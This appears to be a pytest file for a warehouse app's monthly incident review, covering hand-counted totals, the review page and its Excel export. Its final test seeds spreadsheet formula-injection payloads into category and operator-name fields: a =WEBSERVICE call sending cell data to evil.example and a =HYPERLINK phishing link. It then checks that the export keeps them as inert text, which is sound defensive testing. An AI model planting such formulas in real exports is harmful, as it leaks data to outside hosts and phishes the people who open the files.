"""The monthly review on a seeded month with fixed timestamps (the `month` fixture in conftest.py),
checked against counts worked out by hand (in its comments), not by the code under test; its page,
Excel export and handbook."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from server.incidents.facts import handbook, month_facts
from server.incidents.review import Counts, compare, month_range, previous_month, review


def counts(blocks=0, holds=0, incidents=0) -> Counts:
    return Counts(blocks, holds, incidents)


def test_the_month_counted_by_hand(session, month):
    r = review(month_facts(session, "2026-11", month.id))
    assert r.totals == counts(blocks=4, holds=2, incidents=3)  # scans 1,2,4,5 · 3,6 · three incidents
    assert r.by_hour[8] == counts(blocks=1)
    assert r.by_hour[9] == counts(blocks=1, holds=1, incidents=1)  # incident 3 was detected 09:05
    assert r.by_hour[10] == counts(incidents=1)  # the drill at 10:00 is not here
    assert r.by_hour[14] == counts(blocks=1)
    assert r.by_hour[16] == counts(incidents=1)
    assert r.by_hour[23] == counts(blocks=1, holds=1)
    assert sum(c.total for c in r.by_hour) == 9
    assert r.by_category == {
        "服饰": counts(blocks=3, incidents=1),
        "美妆护肤": counts(holds=2),
        "家居": counts(incidents=1),
        "数码配件": counts(blocks=1),
        "未分类": counts(blocks=1),
        "食品饮料": counts(incidents=1),
    }
    assert r.by_station == {"A1": counts(3, 1, 1), "A2": counts(1, 1, 1), "—": counts(incidents=1)}
    assert r.by_packer == {"张三（P001）": counts(blocks=3, incidents=1), "李四（P002）": counts(holds=2, incidents=1),
                           "未登录": counts(blocks=1), "—": counts(incidents=1)}  # fmt: skip
    assert r.by_cause == {"操作失误": 1, "退款未及时同步": 1, "未填写": 1}
    assert dict(r.lag_buckets) == {"≤10 秒": 0, "10 秒–1 分": 1, "1–5 分": 0, "5–30 分": 0, "30 分–2 小时": 1,
                                   "> 2 小时": 0}  # fmt: skip
    assert r.lag_median_s == 30
    assert (r.intercept_tried, r.intercept_ok, r.intercept_rate) == (2, 1, 0.5)
    assert r.losses.net_loss == 1700 + 5900 == 7600
    assert (r.gate_late, r.gate_early) == (1, 1)


def test_every_warehouse_and_the_previous_month(session, month):
    everywhere = review(month_facts(session, "2026-11", None))
    assert everywhere.totals == counts(blocks=5, holds=2, incidents=4)  # + 华南仓's BLOCK and incident
    assert {house: ledger.net_loss for house, ledger in everywhere.losses_by_warehouse.items()} == {
        "华东仓": 7600,
        "华南仓": 2500,
    }
    october = review(month_facts(session, previous_month("2026-11"), month.id))
    assert october.totals == counts(blocks=1, holds=1, incidents=1)
    rows = {
        c.label: (c.current, c.previous, c.delta)
        for c in compare(review(month_facts(session, "2026-11", month.id)), october)
    }
    assert rows["拦截（BLOCK）"] == (4, 1, 3)
    assert rows["暂停（HOLD）"] == (2, 1, 1)
    assert rows["退款后已发货事件"] == (3, 1, 2)
    assert rows["拦截成功率"] == (50.0, 100.0, -50.0)
    assert rows["净损失"] == (7600, 1000, 6600)


def test_month_arithmetic():
    start, end = month_range("2026-12")
    assert (start, end) == (datetime(2026, 11, 30, 16, tzinfo=UTC), datetime(2026, 12, 31, 16, tzinfo=UTC))
    assert previous_month("2026-01") == "2025-12" and previous_month("2026-11") == "2026-10"
    with pytest.raises(ValueError, match="YYYY-MM"):
        month_range("2026-13")


def test_the_review_page_and_its_workbook(as_lead, session, month):
    page = as_lead.get(f"/review?month=2026-11&warehouse={month.id}").get_data(as_text=True)
    assert page.count("<svg") == 6 and "复盘 · 2026-11" in page and "¥76.00" in page
    assert "<script" not in page.split("<main>")[1]  # charts are drawn on the server
    assert as_lead.get("/review?month=2026-99").status_code == 400
    response = as_lead.get(f"/review/export.xlsx?month=2026-11&warehouse={month.id}")
    assert response.headers["Content-Disposition"] == 'attachment; filename="shipgate-review-2026-11.xlsx"'
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == [
        "概览",
        "按小时",
        "按类目",
        "按工作站",
        "按打包员",
        "按原因",
        "同步延迟",
        "损失",
        "经验手册",
    ]
    hours = list(book["按小时"].iter_rows(values_only=True))
    assert hours[0] == ("小时", "拦截（BLOCK）", "暂停（HOLD）", "退款后已发货事件") and hours[10] == (
        "09:00",
        1,
        1,
        1,
    )
    overview = {row[0]: row[1:] for row in book["概览"].iter_rows(min_row=2, values_only=True)}
    assert overview["净损失（元）"] == (76.0, 10.0, 66.0)
    assert overview["拦截成功率（%）"] == (50.0, 100.0, -50.0)
    assert list(book["按工作站"].iter_rows(min_row=2, values_only=True))[0] == ("A1", 3, 1, 1)
    assert list(book["损失"].iter_rows(min_row=2, values_only=True))[-1] == ("合计", 0, 12, 0, 5, 30, 89, 76)
    [manual] = list(book["经验手册"].iter_rows(min_row=2, values_only=True))
    assert manual[3] == "拦截成功，包裹退回" and manual[4] == "拦截成功" and manual[9] == 17.0


def test_the_handbook_lists_what_worked(as_lead, session, month):
    [row] = handbook(session, month.id)
    assert (row.outcome, row.intercept, row.cause, row.net_loss) == (
        "拦截成功，包裹退回",
        "拦截成功",
        "操作失误",
        1700,
    )
    page = as_lead.get("/review/handbook").get_data(as_text=True)
    assert "拦截成功，包裹退回" in page and "操作失误" in page and "¥17.00" in page


def test_untrusted_strings_in_the_workbook_are_text_never_formulas(as_lead, session, month):
    """A Douyin category or a station's operator name starting with "=" must not become a live
    formula (=WEBSERVICE exfiltrates, =HYPERLINK phishes) in the export."""
    import zipfile

    from sqlalchemy import update

    from server.models import Operator, SkuOrder

    session.execute(update(SkuOrder).values(category='=WEBSERVICE("http://evil.example/?"&A1)'))
    session.execute(update(Operator).values(name='=HYPERLINK("http://evil.example","点我")'))
    session.commit()
    response = as_lead.get(f"/review/export.xlsx?month=2026-11&warehouse={month.id}")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    book = load_workbook(io.BytesIO(response.data))
    found = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]
    assert {c.value[:11] for c in found} >= {"=WEBSERVICE", "=HYPERLINK("}
    assert all(c.data_type == "s" for c in found)
